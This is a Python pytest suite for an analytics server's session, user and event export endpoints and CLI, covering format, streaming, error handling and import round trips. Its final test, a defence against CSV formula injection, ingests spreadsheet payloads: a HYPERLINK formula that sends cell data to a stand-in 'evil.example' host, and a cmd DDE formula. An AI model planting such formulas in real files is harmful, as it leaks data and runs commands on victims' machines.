"""Export (SPEC §12): `/v2/{session,user,event}/export` and `sessionscope export`, against real servers.

- the export holds exactly the rows of the list endpoint's pages, with the same filters and window;
- it is streamed (chunked, no Content-Length), in NDJSON, CSV and Parquet;
- it round-trips: export -> `sessionscope import` into an empty store -> identical list documents and
  identical analytics answers (sessions, users, events), from NDJSON and from Parquet.
"""

from __future__ import annotations

import csv
import io
import json
import math
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pyarrow.parquet as pq
import pytest

from support.data import recent_sessions
from support.server import Server, cli, ingest

from .compare import same

EXPORT_ONLY = ("screens", "events")  # (ext) keys an exported session carries beyond the list document


def export(client: httpx.Client, headers: dict, resource: str, fmt: str, filters: list | None = None) -> httpx.Response:
    params: dict[str, Any] = {"format": fmt}
    if filters is not None:
        params["filters"] = json.dumps(filters)
    r = client.get(f"/v2/{resource}/export", params=params, headers=headers)
    assert r.status_code == 200, r.text
    return r


def list_all(client: httpx.Client, headers: dict, resource: str, filters: list | None = None) -> list[dict]:
    rows, page = [], 1
    while True:
        params: dict[str, Any] = {"page": page, "page_size": 500}
        if filters is not None:
            params["filters"] = json.dumps(filters)
        body = client.get(f"/v2/{resource}", params=params, headers=headers).json()
        rows += body["data"]
        if body["pagination"]["next"] is None:
            return rows
        page += 1


def ndjson(data: bytes) -> list[dict]:
    return [json.loads(line) for line in data.splitlines() if line.strip()]


KEYS = {"session": "sessionId", "user": "uxcamUserId", "event": "eventId"}


def key(resource: str, row: dict) -> str:
    return row[KEYS[resource]]


FILTERS = {
    "session": [{"attribute": "device_platform", "operator": "equal", "value": "android"}],
    "user": [{"attribute": "user_session_count", "operator": "greater", "value": 5}],
    "event": [{"attribute": "event_name", "operator": "in", "value": ["Add to cart", "Purchase"]}],
}


@pytest.mark.parametrize("resource", ["session", "user", "event"])
def test_export_rows_are_the_list_rows(loaded, resource: str) -> None:
    headers = loaded.a.read_headers
    for filters in (None, FILTERS[resource]):
        r = export(loaded.client, headers, resource, "ndjson", filters)
        assert r.headers["content-type"].startswith("application/x-ndjson")
        assert r.headers.get("transfer-encoding") == "chunked" and "content-length" not in r.headers
        assert f'filename="{resource}s.ndjson"' in r.headers["content-disposition"]
        exported = ndjson(r.content)
        if resource == "session":
            for doc in exported:
                for k in EXPORT_ONLY:
                    doc.pop(k, None)  # a session with no screens has no `screens`
        listed = list_all(loaded.client, headers, resource, filters)
        assert listed, "the filter finds rows"
        by_key = {key(resource, row): row for row in exported}
        assert len(by_key) == len(exported) == len(listed)
        for row in listed:
            assert same(by_key[key(resource, row)], row), (by_key[key(resource, row)], row)


def test_session_export_carries_screens_and_events_as_sent(loaded) -> None:
    exported = ndjson(export(loaded.client, loaded.a.read_headers, "session", "ndjson").content)
    sent = {d["sessionId"]: d for d in loaded.docs_a}
    assert len(exported) == len(sent)
    for doc in exported:
        original = sent[doc["sessionId"]]
        assert doc.get("screens", []) == original.get("screens", [])
        assert "screens" in doc or not original.get("screens")
        want = [{k: v for k, v in e.items() if v is not None} for e in original.get("events", [])]
        assert doc["events"] == want


@pytest.mark.parametrize("resource", ["session", "user", "event"])
def test_csv_and_parquet_hold_the_same_rows(loaded, resource: str) -> None:
    headers = loaded.a.read_headers
    filters = FILTERS[resource]
    rows = ndjson(export(loaded.client, headers, resource, "ndjson", filters).content)
    keycol = {"session": "sessionId", "user": "uxcamUserId", "event": "eventId"}[resource]

    r = export(loaded.client, headers, resource, "csv", filters)
    assert r.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(r.text)))
    assert sorted(t[keycol] for t in table) == sorted(row[keycol] for row in rows)
    nested = {"session": "property.durationSec", "user": "usage.totalSession", "event": "sessionProperty.sessionId"}
    assert nested[resource] in table[0]

    r = export(loaded.client, headers, resource, "parquet", filters)
    assert r.content[:4] == b"PAR1" and r.content[-4:] == b"PAR1"
    parquet = pq.read_table(io.BytesIO(r.content))
    assert parquet.num_rows == len(rows)
    assert sorted(parquet.column(keycol).to_pylist()) == sorted(row[keycol] for row in rows)


def test_an_empty_export_is_a_valid_empty_file(loaded) -> None:
    nothing = [{"attribute": "device_model", "operator": "equal", "value": "no such model"}]
    headers = loaded.a.read_headers
    assert export(loaded.client, headers, "session", "ndjson", nothing).content == b""
    assert export(loaded.client, headers, "user", "csv", nothing).text.startswith('"uxcamUserId"')
    assert pq.read_table(io.BytesIO(export(loaded.client, headers, "event", "parquet", nothing).content)).num_rows == 0


def test_export_errors_are_json_before_any_byte(loaded) -> None:
    headers = loaded.a.read_headers
    r = loaded.client.get("/v2/session/export", params={"format": "xlsx"}, headers=headers)
    assert r.status_code == 400 and r.json()["error"]["param"] == "format"
    r = loaded.client.get("/v2/user/export", params={"filters": "[{"}, headers=headers)
    assert r.status_code == 400 and r.json()["error"]["param"] == "filters"
    r = loaded.client.get("/v2/event/export", params={"format": "csv"})
    assert r.status_code == 401
    r = loaded.client.post("/v2/event/export", json={"format": "csv", "filters": FILTERS["event"]}, headers=headers)
    assert r.status_code == 200 and r.text.startswith('"eventId"')


# -- round trip through `sessionscope import` -----------------------------------------------------------------


def _window(lower: datetime, upper: datetime) -> dict:
    fmt = "%Y-%m-%dT%H:%M:%SZ"
    return {"attribute": "date_range", "operator": "between_dates", "value": {"lower": lower.strftime(fmt), "upper": upper.strftime(fmt)}}


def _requests(lower: datetime, upper: datetime) -> list[tuple[str, dict]]:
    w = _window(lower, upper)
    return [
        ("session", {"filters": [w]}),
        ("session", {"filters": [w], "group_by": [{"attribute": "device_model"}, {"attribute": "session_uploaded_week"}]}),
        ("session", {"filters": [w, {"attribute": "event_name", "operator": "in", "value": ["Add to cart"]}], "group_by": [{"attribute": "user_custom_property", "property_name": "age_group"}]}),
        ("session", {"filters": [w, {"attribute": "session_screen_list", "operator": "has_any", "value": ["CartActivity"]}], "aggregation": [{"attribute": "session_duration", "operator": "p90"}, {"attribute": "user_event_count", "operator": "sum"}]}),
        ("user", {"filters": [w]}),
        ("user", {"filters": [w, {"attribute": "user_custom_property", "operator": "greater", "property_name": "orders", "value": 3}], "group_by": [{"attribute": "device_platform"}]}),
        ("event", {"filters": [w]}),
        ("event", {"filters": [w], "group_by": [{"attribute": "event_name"}, {"attribute": "event_uploadedon_day"}]}),
        ("event", {"filters": [w], "aggregation": [{"attribute": "event_custom_property", "property_name": "price", "operator": "avg"}], "group_by": [{"attribute": "event_custom_property", "property_name": "category"}]}),
    ]


def _answers(client: httpx.Client, headers: dict, requests: list[tuple[str, dict]]) -> list[list[dict]]:
    out = []
    for resource, params in requests:
        r = client.post(f"/v2/{resource}/analytics", json={**params, "page_size": 500}, headers=headers)
        assert r.status_code == 200, r.text
        out.append([{k: v for k, v in row.items() if k != "dashboard_link"} for row in r.json()["data"]])
    return out


def assert_same_answers(got: list[list[dict]], want: list[list[dict]]) -> None:
    """The same rows, keys, groups and counts; floats equal to the last few bits (a sum's order may differ
    between two stores holding the same rows, so its rounding may too)."""
    assert len(got) == len(want)
    for rows, expected in zip(got, want, strict=True):
        assert [list(r) for r in rows] == [list(r) for r in expected]
        for row, exp in zip(rows, expected, strict=True):
            for k, v in exp.items():
                if isinstance(v, float):
                    assert math.isclose(row[k], v, rel_tol=1e-12), (k, row[k], v)
                else:
                    assert row[k] == v, (k, row[k], v)


def test_export_imports_again_with_identical_answers(tmp_path: Path) -> None:
    now = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=5)
    docs = list(recent_sessions(900, days=20, seed=77, now=now))
    # sessions that sent no screens (counts unknown), an empty list (counts 0), or counts without a list
    for doc in docs[::9]:
        del doc["screens"]
        doc["property"].pop("totalScreen", None)
        doc["property"].pop("uniqueScreensCount", None)
    for doc in docs[1::9]:
        doc["screens"] = []
    for doc in docs[2::9]:
        del doc["screens"]
    # one older than the default 30-day window: an export without a date_range leaves it out
    old = json.loads(json.dumps(docs[3]))
    old["sessionId"] = "older-than-the-window"
    old["property"]["uploadedServerTime"] = (now - timedelta(days=35)).strftime("%Y-%m-%dT%H:%M:%SZ")
    docs.append(old)
    source = Server(data_dir=tmp_path / "source", store_url=f"duckdb:///{tmp_path / 'source' / 'store.duckdb'}")
    (tmp_path / "source").mkdir()
    creds = source.create_app("source")
    source.start()
    everything = [_window(now - timedelta(days=40), now + timedelta(days=1))]
    try:
        client = source.client()
        for body in ingest(client, creds, docs, batch=900):
            assert body["rejected"] == []
        ndjson_file = tmp_path / "sessions.ndjson"
        ndjson_file.write_bytes(export(client, creds.read_headers, "session", "ndjson", everything).content)
        requests = _requests(now - timedelta(days=40), now + timedelta(days=1))
        want = _answers(client, creds.read_headers, requests)
        want_lists = {r: list_all(client, creds.read_headers, r, everything) for r in ("session", "user")}
        client.close()
    finally:
        source.stop()

    # the command line, on the stopped source's store: the same rows, and a Parquet file
    out = tmp_path / "cli.ndjson"
    run = cli(source.env, "export", "--app", creds.appid, "--format", "ndjson", "-o", str(out), "--filters", json.dumps(everything))
    assert f"exported {len(docs)} sessions" in run.stdout
    assert sorted(out.read_bytes().splitlines()) == sorted(ndjson_file.read_bytes().splitlines())
    # --all-time is the whole app; no window at all is the last 30 days, and says so
    run = cli(source.env, "export", "--app", creds.appid, "-o", str(out), "--all-time")
    assert f"exported {len(docs)} sessions to {out}\n" in run.stdout
    assert sorted(out.read_bytes().splitlines()) == sorted(ndjson_file.read_bytes().splitlines())
    run = cli(source.env, "export", "--app", creds.appid, "-o", str(out))
    assert f"exported {len(docs) - 1} sessions to {out} (uploaded in the last 30 days; --all-time for every one)" in run.stdout
    both = cli(source.env, "export", "--app", creds.appid, "-o", str(out), "--all-time", "--filters", json.dumps(everything), check=False)
    assert both.returncode == 1 and "--all-time and a date_range filter" in both.stderr
    parquet_file = tmp_path / "sessions.parquet"
    cli(source.env, "export", "--app", creds.appid, "--format", "parquet", "-o", str(parquet_file), "--filters", json.dumps(everything))
    bad = cli(source.env, "export", "--app", creds.appid, "--format", "xml", "-o", str(tmp_path / "x"), check=False)
    assert bad.returncode != 0 and "format" in bad.stderr

    # import both into an empty store, as two apps
    target = Server(data_dir=tmp_path / "target", store_url=f"duckdb:///{tmp_path / 'target' / 'store.duckdb'}")
    (tmp_path / "target").mkdir()
    from_ndjson = target.create_app("from-ndjson")
    from_parquet = target.create_app("from-parquet")
    assert "rejected 0" in cli(target.env, "import", str(ndjson_file), "--app", from_ndjson.appid).stdout
    assert "rejected 0" in cli(target.env, "import", str(parquet_file), "--app", from_parquet.appid).stdout
    target.start()
    try:
        client = target.client()
        for imported in (from_ndjson, from_parquet):
            assert_same_answers(_answers(client, imported.read_headers, requests), want)
        # the NDJSON round trip keeps every document exactly (urls aside: they name the app)
        for resource, rows in want_lists.items():
            again = list_all(client, from_ndjson.read_headers, resource, everything)
            strip = lambda rs: [{k: v for k, v in r.items() if k != "url"} for r in rs]  # noqa: E731
            assert same(strip(again), strip(rows))
        client.close()
    finally:
        target.stop()


def test_csv_cells_never_start_a_spreadsheet_formula(fresh_server: Server) -> None:
    """Event names and properties come from an app's users (the ingest key ships in the app): a CSV cell that
    a spreadsheet would run (= + - @, tab, CR) gets a leading quote; plain numbers, NDJSON and Parquet keep
    the text as sent."""
    a = fresh_server.create_app("csv-injection")
    link = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    doc = {"sessionId": "csv-1", "user": {"uxcamuserid": "u-csv", "alias": "@admin", "note": link, "debt": "-5"},
           "events": [{"name": "=1+1", "timeSec": 1, "properties": {"q": "+cmd|' /C calc'!A0"}},
                      {"name": "-2+3", "timeSec": 2}, {"name": "plain", "timeSec": 3}]}
    fresh_server.start()
    with fresh_server.client() as client:
        ingest(client, a, [doc])
        events = list(csv.DictReader(io.StringIO(export(client, a.read_headers, "event", "csv").text)))
        sessions = list(csv.DictReader(io.StringIO(export(client, a.read_headers, "session", "csv").text)))
        raw = ndjson(export(client, a.read_headers, "event", "ndjson").content)
    assert sorted(e["eventName"] for e in events) == ["'-2+3", "'=1+1", "plain"]
    assert sorted(e["eventName"] for e in raw) == ["-2+3", "=1+1", "plain"]  # NDJSON: as sent
    (row,) = sessions
    assert row["user.alias"] == "'@admin" if "user.alias" in row else json.loads(row["user"])["alias"] == "@admin"
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for r in events + sessions for v in r.values() if v)
    assert not any(v.startswith("-") and not v.lstrip("-").replace(".", "", 1).isdigit()
                   for r in events + sessions for v in r.values() if v)
